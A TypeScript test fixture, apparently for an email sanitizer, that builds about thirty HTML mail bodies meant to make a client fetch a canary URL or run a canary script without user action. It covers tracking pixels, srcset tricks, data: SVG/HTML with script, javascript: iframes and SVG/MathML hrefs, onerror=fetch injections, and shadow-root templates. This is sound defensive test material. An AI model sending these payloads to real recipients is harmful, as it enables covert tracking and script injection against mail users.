import { canaryScript } from './canary-script.ts';

/** What embeds, plays or loads something by itself. */
export function embeddingMails(canary: string): Record<string, string> {
  const run = (name: string): string => canaryScript(canary, name);
  return {
    pixel: `<p>Hi</p><img src="${canary}/pixel.gif" width=1 height=1>`,
    'pixel-styled': `<img src="${canary}/pixel2.gif" style="display:none;width:0;height:0">`,
    'img-srcset': `<img srcset="${canary}/1x 1x, ${canary}/2x 2x" src="${canary}/src" sizes=100vw>`,
    'img-old-attributes': `<img lowsrc="${canary}/low" dynsrc="${canary}/dyn" longdesc="${canary}/desc" src=x>`,
    'img-lazy-and-cors': `<img loading=eager fetchpriority=high crossorigin=use-credentials referrerpolicy=unsafe-url src="${canary}/eager" attributionsrc="${canary}/attribution">`,
    'img-protocol-relative': `<img src="//${canary.replace(/^https?:\/\//, '')}/relative.png">`,
    'img-tab-in-scheme': `<img src="ht\ntps://${canary.replace(/^https?:\/\//, '')}/newline.png"><img src=" ${canary}/space.png ">`,
    'img-data-svg': `<img src="data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run('svg')}"><image href="${canary}/svg"/></svg>`)}">`,
    'img-data-html': `<img src="data:text/html,<script>${run('html')}</script>"><img src="data:image/png,<svg onload=1>">`,
    'img-cid-confusion': `<img src="cid:../../${canary}"><img src="cid:${canary}/cid"><img src="CID:%22onerror%3Dfetch('${canary}')//"><img src="cid:__proto__"><img src="cid:">`,
    'img-is-image': `<image src="${canary}/image"></image>`,
    'picture-source': `<picture><source srcset="${canary}/avif" type="image/avif"><source srcset="${canary}/webp"><img src="${canary}/fallback" alt=x></picture>`,
    'video-poster': `<video autoplay muted poster="${canary}/poster" src="${canary}/video.mp4"><source src="${canary}/source.mp4" onerror="${run('source')}"><track src="${canary}/track.vtt" default></video>`,
    'audio-autoplay': `<audio autoplay src="${canary}/audio.mp3"></audio><bgsound src="${canary}/bgsound.mid" loop=-1>`,
    'iframe-src': `<iframe src="${canary}/frame"></iframe><iframe src="javascript:${run('frame')}"></iframe>`,
    'iframe-srcdoc': `<iframe srcdoc="&lt;script&gt;${run('srcdoc')}&lt;/script&gt;&lt;img src='${canary}/srcdoc'&gt;"></iframe>`,
    'iframe-text': `<iframe><img src=x onerror=fetch('${canary}/iframe-text')></iframe>`,
    frameset: `<frameset cols="*"><frame src="${canary}/frameset"></frameset><noframes><img src="${canary}/noframes"></noframes>`,
    'object-and-embed': `<object data="${canary}/object"><param name=movie value="${canary}/param"><img src="${canary}/object-fallback"></object><embed src="${canary}/embed" type="text/html">`,
    'applet-and-portal': `<applet code=x codebase="${canary}/applet"></applet><portal src="${canary}/portal"></portal><fencedframe src="${canary}/fenced"></fencedframe>`,
    'svg-script': `<svg><script>${run('svg-script')}</script><script href="${canary}/svg.js"></script></svg>`,
    'svg-onload': `<svg onload="${run('svg-onload')}"><image xlink:href="${canary}/svg-image"/><use href="${canary}/use.svg#x"/></svg>`,
    'svg-animate': `<svg><a><animate attributeName=href values="javascript:${run('animate')}"/><text y=20>Click</text></a><set attributeName=onmouseover to="${run('set')}"/></svg>`,
    'svg-foreign-object': `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${run('foreign')}"><img src="${canary}/foreign"></body></foreignObject></svg>`,
    'svg-style-and-filter': `<svg><style>*{fill:url(${canary}/fill)}</style><filter id=f><feImage href="${canary}/feimage"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
    'math-href': `<math href="javascript:${run('math')}"><mi xlink:href="${canary}/mi">x</mi><maction actiontype="statusline#${canary}" xlink:href="javascript:${run('maction')}">Click</maction></math>`,
    'xml-island': `<xml id=i><x><c><![CDATA[<img src="${canary}/cdata" onerror="${run('cdata')}">]]></c></x></xml><span datasrc=#i datafld=c dataformatas=html></span>`,
    namespaced: `<html xmlns:o="urn:x"><o:p><v:imagedata src="${canary}/vml"/><v:fill src="${canary}/fill"></o:p><?import namespace=t implementation="${canary}/import"?>`,
    'canvas-dialog-slot': `<canvas id=c><img src="${canary}/canvas"></canvas><dialog open><form method=dialog><button>Close</button></form></dialog><slot name=x><custom-element onclick="${run('custom')}">C</custom-element></slot>`,
    'shadow-template': `<div><template shadowrootmode=open><img src=x onerror="${run('shadow')}"><style>@import '${canary}/shadow';</style></template></div>`,
  };
}
